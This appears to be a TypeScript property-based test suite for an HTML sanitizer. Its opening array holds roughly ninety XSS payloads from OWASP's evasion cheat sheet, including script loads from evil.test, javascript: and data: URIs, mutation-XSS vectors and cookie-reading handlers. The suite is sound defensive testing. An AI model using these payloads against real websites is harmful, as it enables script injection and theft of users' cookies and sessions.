import assert from 'node:assert/strict'
import test from 'node:test'
import vm from 'node:vm'
import fc from 'fast-check'
import { cleanHtml } from './clean-html.ts'

/** From OWASP's filter evasion cheat sheet and the mutation attacks that sanitizers have fallen for. */
const hostile = [
  '<SCRIPT SRC=https://evil.test/xss.js></SCRIPT>',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=javascript:alert(1)>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '\\<a onmouseover="alert(document.cookie)"\\>xxs link\\</a\\>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<IMG onmouseover="alert(1)">',
  '<IMG SRC=/ onerror="alert(1)"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="jav&#x0D;ascript:alert(1)">x</a>',
  '<a href="jav&Tab;ascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://cardinal.test/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.test/">x</a>',
  '<a href="\\\\evil.test/">x</a>',
  '<a href="/\\evil.test/">x</a>',
  '<a href="/\t/evil.test/">x</a>',
  '<a href="https://evil.test" target=_blank rel=opener onclick=alert(1) style=position:fixed id=x class=y name=z>x</a>',
  '<SCRIPT/XSS SRC="https://evil.test/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="https://evil.test/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=https://evil.test/xss.js?< B >',
  '<SCRIPT SRC=//evil.test/.j>',
  '<IMG SRC="`<javascript:alert>`(1)"',
  '<iframe src=https://evil.test/scriptlet.html <',
  '\\";alert(1);//',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
  '<BODY BACKGROUND="javascript:alert(1)">',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  "<STYLE>@import'https://evil.test/xss.css';</STYLE>",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
  '<DIV STYLE="background-image: url(javascript:alert(1))">x</DIV>',
  '<DIV STYLE="width: expression(alert(1));">x</DIV>',
  '<BASE HREF="javascript:alert(1);//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.test/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" AllowScriptAccess="always"></EMBED>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<p id="</p><script>alert(1)</script>">x</p>',
  '<a href="https://x.test/&quot; onclick=&quot;alert(1)">x</a>',
  '<a href=\'https://x.test/" onclick="alert(1)\'>x</a>',
  '<b onclick=alert(1)//<b>x',
  '<b/onclick=alert(1)>x</b>',
  '<textarea><script>alert(1)</script></textarea>',
  '<textarea></textarea><script>alert(1)</script>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)',
  '<a href="https://x.test"><script>alert(1)</script></a>',
  '<option><style></option></select><b><img src=xx: onerror=alert(1)></style></option>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<template><script>alert(1)</script></template>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '<\u0000script>alert(1)</script>',
  '<b style="x" id="y" class="z" data-x="w" xml:lang="v">x</b>',
]

const plainTags = 'a|b|blockquote|code|del|em|h1|h2|h3|h4|i|li|ol|p|pre|s|strong|u|ul'
/** What a cleaned text may consist of, to the letter, so that no parser can read anything else into it. */
const grammar = new RegExp(
  `^(?:[^<>]|<(?:${plainTags})>|</(?:${plainTags})>|<[bh]r />|<a(?: href="([^"<>]*)")? rel="noopener nofollow">)*$`,
)

const decoded = (attribute: string) =>
  attribute.replaceAll('&quot;', '"').replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&amp;', '&')

/** The whole of what the cleaner promises, for one input. */
function hold(html: string) {
  const cleaned = cleanHtml(html)
  const about = `${JSON.stringify(html)} became ${JSON.stringify(cleaned)}`
  assert.match(cleaned, grammar, about)
  for (const [, href = ''] of cleaned.matchAll(/<a href="([^"]*)"/g)) {
    const link = decoded(href)
    const { protocol, host } = new URL(link, 'https://cardinal.test/')
    assert.ok(['http:', 'https:', 'mailto:'].includes(protocol), about)
    assert.ok(host === 'cardinal.test' || /^(https?:|mailto:)/i.test(link), about)
  }
  assert.equal(cleanHtml(cleaned), cleaned, about)
}

test('hostile HTML leaves no script, no handler, no bad link, no style, id or class', () => {
  for (const html of hostile) hold(html)
})

test('hostile HTML in pieces and in one another', () => {
  const pieces = hostile.flatMap((html) => html.split(/(?=[<"'=>&/])/))
  fc.assert(
    fc.property(
      fc.array(fc.oneof(fc.constantFrom(...hostile), fc.constantFrom(...pieces)), { maxLength: 12 }),
      (parts) => hold(parts.join('')),
    ),
    { numRuns: 2000 },
  )
})

test('any text at all', () => {
  const markup = fc.string({ unit: fc.constantFrom(...'<>&"\'=/! -:;#abpslx?[]\t\n\u0000'), maxLength: 80 })
  fc.assert(fc.property(fc.oneof(markup, fc.string({ unit: 'binary' })), hold), { numRuns: 2000 })
})

test('what a description may hold stays as it is', () => {
  for (const html of [
    'Plain text, ünïcödé and 😀 included.',
    '<p>One <b>two</b> <i>three</i> <u>four</u> <s>five</s> <em>six</em> <strong>seven</strong> <del>eight</del></p>',
    '<h1>a</h1><h2>b</h2><h3>c</h3><h4>d</h4><hr /><blockquote>e<br />f</blockquote>',
    '<ul><li>a</li></ul><ol><li>b</li></ol><pre><code>c &lt; d</code></pre>',
    '<a href="https://x.test/?a=1&amp;b=2#c" rel="noopener nofollow">x</a>',
    '<a href="mailto:a@b.test" rel="noopener nofollow">x</a>',
  ])
    assert.equal(cleanHtml(html), html)
})

test('links are given away without our name, whatever rel they ask for', () => {
  assert.equal(
    cleanHtml('<a href="http://x.test" rel="opener" target="_blank">x</a>'),
    '<a href="http://x.test" rel="noopener nofollow">x</a>',
  )
  assert.equal(cleanHtml('<a href="javascript:alert(1)">x</a>'), '<a rel="noopener nofollow">x</a>')
})

test('the text of unknown elements stays, that of scripts and styles does not', () => {
  assert.equal(cleanHtml('<div><span class="x">a</span> <img src=x>b</div>'), 'a b')
  assert.equal(cleanHtml('a<script>b</script><style>c</style>d'), 'ad')
})

test('plain text with the characters of HTML reads the same', () => {
  const cases: [string, string][] = [
    ['Tom & Jerry', 'Tom &amp; Jerry'],
    ['1 < 2 > 0', '1 &lt; 2 &gt; 0'],
    ['if a<5 && b>3', 'if a&lt;5 &amp;&amp; b&gt;3'],
    ['I <3 you', 'I &lt;3 you'],
    ['a -> b <- c', 'a -&gt; b &lt;- c'],
    ['5 "quoted" \'words\'', '5 "quoted" \'words\''],
    ['&lt;b&gt;', '&lt;b&gt;'],
  ]
  for (const [given, expected] of cases) assert.equal(cleanHtml(given), expected)
  fc.assert(
    fc.property(fc.string({ unit: fc.constantFrom(...'ab <&>\n5=') }), (text) => {
      const escaped = text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')
      assert.equal(cleanHtml(escaped), escaped)
    }),
  )
})

test('64 KiB of anything is cleaned in bounded time, deep nesting included', () => {
  const units = [
    '<',
    '<b>',
    '<p><a>',
    '<a href="',
    '<!--',
    '</',
    '&',
    '&#',
    '<a b=',
    '<svg><style>',
    '<title>',
  ]
  // Ends what would block the service for good; the slowest of these takes a twentieth of it.
  for (const unit of [...units, '<textarea><', '<noscript>', '<ul><li>', '<math><mi>', '"\'<', '<![CDATA['])
    vm.runInNewContext(
      'clean(html)',
      { html: unit.repeat(65_536 / unit.length), clean: cleanHtml },
      { timeout: 10_000 },
    )
  assert.equal(cleanHtml('<b>'.repeat(20_000)), '<b>'.repeat(50) + '</b>'.repeat(50))
})
